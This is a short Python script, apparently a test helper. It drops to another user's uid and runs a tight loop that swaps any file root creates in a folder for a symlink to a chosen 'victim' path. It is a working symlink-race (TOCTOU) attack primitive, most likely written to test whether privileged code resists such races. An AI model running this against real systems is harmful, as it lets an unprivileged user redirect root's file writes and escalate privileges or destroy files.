"""Another user's process that owns a folder, and swaps what is in it for a link and back, as fast as it can, until it is told to stop.

Arguments: uid, the folder, the name in it, where the link leads.
"""
import os
import sys

uid, folder, name, victim = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
# First: the folders above may be closed to that user.
os.chdir(folder)
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
print("ready", flush=True)
aside = name + ".aside"
link = name + ".link"
while True:
    try:
        if not os.path.lexists(link):
            os.symlink(victim, link)
        # Whatever root has made there goes aside, and the link takes its name.
        if os.path.lexists(name) and not os.path.islink(name):
            os.rename(name, aside + str(os.getpid()) + str(os.urandom(4).hex()))
            os.rename(link, name)
        elif os.path.islink(name):
            os.unlink(name)
    except OSError:
        pass
